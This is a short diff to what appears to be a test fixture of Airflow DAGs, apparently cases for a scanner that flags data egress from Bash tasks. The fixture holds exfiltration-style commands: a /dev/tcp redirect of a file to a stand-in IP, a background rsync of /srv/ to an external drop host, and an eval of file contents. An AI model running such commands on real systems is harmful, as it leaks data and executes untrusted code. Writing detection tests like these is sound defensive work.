@@ -63,7 +63,7 @@ with dag("bash_dev_tcp"):
     BashOperator(task_id="t", bash_command="cat /srv/x > /dev/tcp/203.0.113.7/443")
 
 with dag("bash_nested"):
-    BashOperator(task_id="t", bash_command="nohup bash -c \"rsync -a /srv/ me@drop.partner.example:/in\" &")
+    BashOperator(task_id="t", bash_command='nohup bash -c "rsync -a /srv/ me@drop.partner.example:/in" &')
 
 with dag("bash_unreadable_is_confined"):
     BashOperator(task_id="t", bash_command='eval "$(cat /srv/x)"')
